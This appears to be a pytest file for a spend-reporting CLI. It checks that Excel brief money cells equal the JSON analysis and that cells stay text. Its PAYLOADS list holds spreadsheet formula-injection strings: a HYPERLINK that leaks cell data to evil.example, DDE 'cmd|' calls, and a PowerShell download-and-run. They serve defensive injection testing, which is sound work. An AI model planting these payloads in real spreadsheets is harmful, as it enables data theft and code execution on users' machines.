"""`python -m desktop brief`: money cells equal the analyze JSON to the cent, and text from data
(OWASP CSV-injection payloads in usage, invoices, budgets and commitments) is written as text,
never as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import range_boundaries

from desktop.domain import vocabulary

from .helpers import CENT, analyze, cents, run

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "＝HYPERLINK(\"http://evil.example\")",
    "  =3+3",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
]
FORMULA_LEAD = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


# ---------------------------------------------------------------------------- helpers

def table(wb, name: str) -> list[dict]:
    """Rows of the Excel table `name` as dicts keyed by the header (cell objects)."""
    for ws in wb.worksheets:
        if name in ws.tables:
            c1, r1, c2, r2 = range_boundaries(ws.tables[name].ref)
            head = [ws.cell(r1, c).value for c in range(c1, c2 + 1)]
            return [{h: ws.cell(r, c1 + i) for i, h in enumerate(head)} for r in range(r1 + 1, r2 + 1)]
    raise KeyError(name)


def money(cell) -> Decimal:
    """A money cell: a number Excel can sum, with no more than cents in it."""
    assert isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool), (cell.coordinate, cell.value)
    d = Decimal(repr(cell.value))
    assert d == d.quantize(CENT), (cell.coordinate, cell.value)
    assert "0.00" in cell.number_format, (cell.coordinate, cell.number_format)
    return d.quantize(CENT)


def dec(x) -> Decimal | None:
    return None if x is None else Decimal(x)


# ---------------------------------------------------------------------------- money vs JSON

@pytest.fixture(scope="module")
def demo_brief(tmp_path_factory):
    from desktop.cli import main

    out = tmp_path_factory.mktemp("brief") / "brief.xlsx"
    assert main(["brief", "--demo", "--out", str(out)]) == 0
    return openpyxl.load_workbook(out)


@pytest.fixture(scope="module")
def demo_json():
    import contextlib
    import json

    from desktop.cli import main

    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        assert main(["analyze", "--demo", "--format", "json"]) == 0
    return json.loads(buf.getvalue())


PACING = {"Commitment": "commitment", "Carry in": "carry_in", "Consumed": "consumed", "Expected": "expected",
          "Projected": "projected", "Shortfall": "shortfall", "Carry out": "carry_out",
          "Shortfall penalty": "shortfall_penalty", "Overage": "overage", "Overage premium": "overage_premium"}


def test_pacing_money_equals_json(demo_brief, demo_json):
    rows = table(demo_brief, "Pacing")
    want = {(c["contract_id"], p["period_start"]): p for c in demo_json["contracts"] for p in c["periods"]}
    got = {(r["Contract"].value, r["Period start"].value.date().isoformat()): r for r in rows}
    assert got.keys() == want.keys()
    for k, r in got.items():
        for col, key in PACING.items():
            assert money(r[col]) == dec(want[k][key]), (k, col)
        assert r["Pacing"].value == pytest.approx(want[k]["pacing_ratio"]) if want[k]["pacing_ratio"] is not None \
            else r["Pacing"].value is None


def test_exposure_money_equals_json(demo_brief, demo_json):
    cols = {"Commitment": "commitment", "Consumed to date": "consumed_to_date",
            "Expected to date": "expected_to_date",
            "Projected consumption": "projected_consumption", "Shortfall exposure": "shortfall_exposure",
            "Overage": "overage", "Overage premium": "overage_premium"}
    got = {r["Contract"].value: r for r in table(demo_brief, "Exposure")}
    want = {c["contract_id"]: c for c in demo_json["contracts"]}
    assert got.keys() == want.keys()
    for k, r in got.items():
        for col, key in cols.items():
            assert money(r[col]) == dec(want[k][key]), (k, col)
    # run rates sit in the second table (with the owners and the clause)
    rates = {r["Contract"].value: r for r in table(demo_brief, "ExposureRates")}
    assert rates.keys() == want.keys()
    for k, r in rates.items():
        assert money(r["Run rate / day"]) == dec(want[k]["run_rate"]), k
        rr = want[k]["required_run_rate"]
        assert (r["Required run rate / day"].value is None) if rr is None else money(r["Required run rate / day"]) == dec(rr)


def test_invoice_money_equals_json(demo_brief, demo_json):
    cols = {"Invoiced (excl. tax)": "invoiced", "Expected (usage)": "expected", "Variance": "variance",
            "Tax": "tax", "Premium leakage": "premium_leakage"}
    got = {r["Invoice"].value: r for r in table(demo_brief, "Invoices")}
    want = {i["invoice_id"]: i for i in demo_json["invoices"]}
    assert got.keys() == want.keys()
    for k, r in got.items():
        for col, key in cols.items():
            assert money(r[col]) == dec(want[k][key]), (k, col)
        assert r["Status"].value == vocabulary.INVOICE_STATUSES.label(want[k]["status"])
    flags = sorted((r["Invoice"].value, r["Line"].value, r["Flag"].value, money(r["Leakage"]))
                   for r in table(demo_brief, "FlaggedLines"))
    assert flags == sorted((i["invoice_id"], f["line"], vocabulary.LINE_FLAGS.label(f["flag"]), dec(f["leakage"]))
                           for i in demo_json["invoices"] for f in i["flags"])
    assert flags, "the demo has flagged lines"


def test_budget_money_equals_json(demo_brief, demo_json):
    cols = {"Budget": "budget", "Actual": "actual", "Forecast": "forecast", "Variance": "variance"}
    got = {(r["Allocation"].value, r["Month"].value): r for r in table(demo_brief, "Budgets")}
    want = {(b["allocation"], b["month"]): b for b in demo_json["budgets"]}
    assert got.keys() == want.keys()
    for k, r in got.items():
        for col, key in cols.items():
            assert money(r[col]) == dec(want[k][key]), (k, col)
        assert (r["Severity"].value, r["Alert tier"].value) == (vocabulary.SEVERITIES.label(want[k]["severity"]),
                                                                vocabulary.ALERT_TIERS.label(want[k]["alert_tier"]))


def test_no_formula_outside_the_briefs_own(demo_brief):
    """Formulas only where the brief puts them on purpose (renewal inputs, the overdue flag and count,
    the Negotiation sheet's deterministic parts)."""
    for ws in demo_brief.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert ws.title in ("Renewal", "Negotiation", "Actions", "Summary"), \
                        (ws.title, cell.coordinate, cell.value)


# ---------------------------------------------------------------------------- injection

def _csv(path: Path, header: list[str], rows: list[list]) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")  # so that a field holding CR is quoted
    w.writerow(header)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode("utf-8"))
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    d = tmp_path_factory.mktemp("inj")
    start = date(2026, 2, 1)
    usage = []
    for day in range(40):
        when = (start + timedelta(days=day)).isoformat()
        for i, p in enumerate(PAYLOADS):
            cost = "100.00" if not (day == 39 and i == 0) else "5000.00"  # a spike: an anomaly
            usage.append([when, "OpenAI", p, p, p, p, "gpt-4o", cost])
            usage.append([when, "Anthropic", p, p, p, p, "claude-sonnet-4", "10.00"])
    usage.append(["2026-02-03", "OpenAI", "Search", "p", "CC-1", "w", "gpt-4o", "=1+1"])  # rejected
    u = _csv(d / "usage.csv", ["date", "vendor", "team", "project", "cost_center", "workload", "model", "cost"], usage)
    inv = []
    for p in PAYLOADS:
        inv.append([p, "OpenAI", "2026-03-03", "2026-02-01", "2026-02-28", p, "gpt-4o", "10", "1.5", "15.00"])
        inv.append([p, "OpenAI", "2026-03-03", "2026-02-01", "2026-02-28", p, "gpt-4o", "10", "1.5", "15.00"])
    v = _csv(d / "invoices.csv", ["invoice_id", "vendor", "invoice_date", "period_start", "period_end",
                                  "description", "model", "quantity", "unit_price", "amount"], inv)
    b = _csv(d / "budgets.csv", ["allocation", "month", "budget", "dimension", "value", "owner", "containment_owner"],
             [[p, "2026-03", "50.00", "team", p, p, p] for p in PAYLOADS])
    c = _csv(d / "commitments.csv", ["contract_id", "vendor", "period_start", "period_end", "commitment",
                                     "owner", "escalation_owner", "clause"],
             [["=C1+C2", "OpenAI", "2026-01-01", "2026-12-31", "5000000.00", PAYLOADS[1], PAYLOADS[0], PAYLOADS[2]]])
    return d, ["--usage", u, "--invoices", v, "--budgets", b, "--contracts", c]


def test_injection_payloads_are_text(hostile, capsys):
    d, flags = hostile
    out = d / "brief.xlsx"
    status, _, err = run(capsys, "brief", *flags, "--out", out)
    assert status == 0, err
    wb = openpyxl.load_workbook(out)
    seen: dict[str, int] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if not isinstance(v, str):
                    continue
                text = v.replace("_x000D_", "\r")
                if cell.data_type == "f":
                    for frag in ("HYPERLINK", "cmd|", "SUM(1+1)", "1+1", "2+2", "3+3", "C1+C2", "evil"):
                        assert frag not in text, (ws.title, cell.coordinate, v)
                    continue
                stripped = text.lstrip(" \u00a0\u3000")
                if stripped[:1] in FORMULA_LEAD:
                    assert cell.quotePrefix, (ws.title, cell.coordinate, v)
                for p in PAYLOADS + ["=C1+C2", "=1+1"]:
                    if p.strip() in text:
                        seen[p] = seen.get(p, 0) + 1
    # each payload made it into the brief (as text), somewhere
    missing = [p for p in PAYLOADS if not seen.get(p)]
    assert not missing, missing
    assert seen.get("=C1+C2")


def test_injection_analyze_json_keeps_payloads_verbatim(hostile, capsys):
    _, flags = hostile
    d = analyze(capsys, *flags)
    assert {i["invoice_id"] for i in d["invoices"]} == {p.strip() for p in PAYLOADS}
    rep = {r["kind"]: r for r in d["imports"]}["usage"]
    assert rep["rows_rejected"] == 1 and rep["errors"][0]["column"] == "cost"


# ---------------------------------------------------------------------------- summary, chargeback

def _label_values(ws) -> dict:
    """Label -> value pairs of the Summary KPI blocks (label cell, value up to four cells right:
    the labels are merged across the columns before their value)."""
    out = {}
    for row in ws.iter_rows(min_row=1):
        for i, cell in enumerate(row):
            if isinstance(cell.value, str):
                for j in (i + 1, i + 2, i + 3, i + 4):
                    if j < len(row) and isinstance(row[j].value, (int, float)) and cell.value not in out:
                        out[cell.value] = row[j]
                        break
    return out


def test_summary_kpis_equal_json_sums(demo_brief, demo_json):
    kv = _label_values(demo_brief["Summary"])

    def total(items, key):
        return sum((Decimal(x[key]) for x in items), Decimal(0))

    c, i = demo_json["contracts"], demo_json["invoices"]
    want = {"Total commitment": total(c, "commitment"), "Consumed to date": total(c, "consumed_to_date"),
            "Expected to date (burn line)": total(c, "expected_to_date"),
            "Projected consumption": total(c, "projected_consumption"),
            "Shortfall exposure": total(c, "shortfall_exposure"), "Overage": total(c, "overage"),
            "Overage premium": total(c, "overage_premium"), "Invoiced (excl. tax)": total(i, "invoiced"),
            "Premium leakage": total(i, "premium_leakage")}
    for label, value in want.items():
        assert money(kv[label]) == value, label
    assert kv["Contracts"].value == len(c)


def test_chargeback_total_is_every_usage_row(demo_brief, demo_json):
    """Spend with no cost center is its own line, never dropped: the journal adds up to all usage
    up to the as-of date (computed from the demo file with csv + Decimal)."""
    from desktop.resources import demo_files

    usage = dict(demo_files())["usage"]
    with open(usage, newline="", encoding="utf-8") as fh:
        exact = sum((Decimal(r["cost"]) for r in csv.DictReader(fh) if r["date"] <= demo_json["as_of"]), Decimal(0))
    rows = table(demo_brief, "Chargeback")
    lines = sum((money(r["Amount"]) for r in rows), Decimal(0))
    assert lines == cents(exact)
    # and per month: the lines of a month add up to the month's exact total
    with open(usage, newline="", encoding="utf-8") as fh:
        by_month: dict[str, Decimal] = {}
        for r in csv.DictReader(fh):
            if r["date"] <= demo_json["as_of"]:
                by_month[r["date"][:7]] = by_month.get(r["date"][:7], Decimal(0)) + Decimal(r["cost"])
    got: dict[str, Decimal] = {}
    for r in rows:
        got[r["Month"].value] = got.get(r["Month"].value, Decimal(0)) + money(r["Amount"])
    assert got == {m: cents(v) for m, v in by_month.items()}


def test_narrative_for_an_ended_contract(demo_brief, demo_json):
    ended = [c for c in demo_json["contracts"] if c["term_end"] < demo_json["as_of"]]
    assert ended
    texts = [cell.value for row in demo_brief["Summary"].iter_rows() for cell in row
             if isinstance(cell.value, str)]
    for c in ended:
        line = next(t for t in texts if t.startswith(c["contract_id"] + " "))
        assert "at this run rate" not in line and "is burning" not in line, line


def _brief_and_json(capsys, out, *flags):
    import json

    status, _, err = run(capsys, "brief", *flags, "--out", out)
    assert status == 0, err
    return openpyxl.load_workbook(out), json.loads(run(capsys, "analyze", *flags, "--format", "json")[1])


def test_brief_money_equals_json_on_hostile_data(hostile, capsys):
    """The payload data set (invoice ids, teams and owners full of formulas) through the same
    money checks as the demo."""
    d, flags = hostile
    wb, js = _brief_and_json(capsys, d / "money.xlsx", *flags)
    assert js["contracts"] and js["invoices"] and js["budgets"]
    test_pacing_money_equals_json(wb, js)
    test_exposure_money_equals_json(wb, js)
    test_invoice_money_equals_json(wb, js)
    test_budget_money_equals_json(wb, js)


def _demo_workspace(tmp_path, capsys):
    from desktop.resources import demo_files

    files = dict(demo_files())
    w = tmp_path / "w.commitdesk"
    order = ("commitments", "usage", "invoices", "budgets", "rate_card", "org_map")
    assert run(capsys, "import", "--workspace", w, *[files[k] for k in order])[0] == 0
    return w


def test_brief_money_equals_json_from_a_workspace(tmp_path, capsys):
    from desktop.resources import demo_files

    w = _demo_workspace(tmp_path, capsys)
    wb, js = _brief_and_json(capsys, tmp_path / "ws.xlsx", "--workspace", w)
    test_pacing_money_equals_json(wb, js)
    test_exposure_money_equals_json(wb, js)
    test_invoice_money_equals_json(wb, js)
    test_budget_money_equals_json(wb, js)
    # and the brief of the workspace is the brief of the files, cell for cell (renewal simulation,
    # actions, assumptions included)
    f = dict(demo_files())
    out = tmp_path / "files.xlsx"
    status, _, err = run(capsys, "brief", "--contracts", f["commitments"], "--usage", f["usage"], "--invoices",
                         f["invoices"], "--budgets", f["budgets"], "--rate-card", f["rate_card"], "--org-map",
                         f["org_map"], "--out", out)
    assert status == 0, err
    other = openpyxl.load_workbook(out)
    assert wb.sheetnames == other.sheetnames
    diff = [(ws.title, c.coordinate, c.value, other[ws.title][c.coordinate].value)
            for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value != other[ws.title][c.coordinate].value
            and not (isinstance(c.value, str) and "generated" in c.value)]
    assert not diff, diff[:5]


def test_brief_from_fresh_workspace_has_the_actions(tmp_path, capsys):
    w = _demo_workspace(tmp_path, capsys)
    wb = openpyxl.load_workbook(_write_brief(capsys, tmp_path / "fresh.xlsx", w))
    # the brief names actions by their titles (the CLI lists key, severity, owner, due, title)
    before = {r["Action"].value for r in table(wb, "Actions")}
    status, out, _ = run(capsys, "actions", "--workspace", w)
    keys = {line.split("\t")[4] for line in out.strip().splitlines()[1:-1]}
    assert keys and None not in keys
    after = {r["Action"].value for r in table(openpyxl.load_workbook(_write_brief(capsys, tmp_path / "after.xlsx", w)),
                                                 "Actions")}
    assert after == keys  # passes today: once `actions` ran, the brief has them
    assert before == keys  # fails today: {None} ("no actions")


def _write_brief(capsys, out, w):
    status, _, err = run(capsys, "brief", "--workspace", w, "--out", out)
    assert status == 0, err
    return out


def test_burn_up_data_agrees_with_consumed_to_date(demo_brief, demo_json):
    import datetime as dt

    T = dt.datetime.fromisoformat(demo_json["as_of"])
    last: dict = {}
    for r in table(demo_brief, "DailyBurnUp"):
        if r["Date"].value <= T and r["Consumed (cumulative)"].value is not None:
            last[r["Contract"].value] = money(r["Consumed (cumulative)"])
    assert last == {c["contract_id"]: Decimal(c["consumed_to_date"]) for c in demo_json["contracts"]}


def test_raw_usage_rows_are_every_source_row(tmp_path, capsys):
    """--raw-usage: one row per usage row, with its file and row number, amounts as in the file."""
    from desktop.resources import demo_files

    out = tmp_path / "raw.xlsx"
    status, _, err = run(capsys, "brief", "--demo", "--raw-usage", "--sections", "data", "--out", out)
    assert status == 0, err
    wb = openpyxl.load_workbook(out, read_only=True)
    rows = list(wb["Usage rows"].iter_rows(values_only=True))
    head, body = list(rows[0]), rows[1:]
    with open(dict(demo_files())["usage"], newline="", encoding="utf-8") as fh:
        source = list(csv.DictReader(fh))
    assert len(body) == len(source)
    at = {h: i for i, h in enumerate(head)}
    for got, want, line in zip(body, source, range(2, len(source) + 2), strict=True):
        assert (got[at["_file"]], got[at["_row"]]) == ("usage.csv", line)
        assert Decimal(repr(got[at["cost"]])) == Decimal(want["cost"]), line
        assert got[at["date"]].date().isoformat() == want["date"]


def test_cli_brief_sources_carry_the_sha256_of_each_file_it_read(demo_brief):
    import hashlib

    from desktop.resources import demo_files

    want = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in dict(demo_files()).values()}
    got = {r["File"].value: r["SHA-256"].value for r in table(demo_brief, "SummarySources")}
    assert got == want
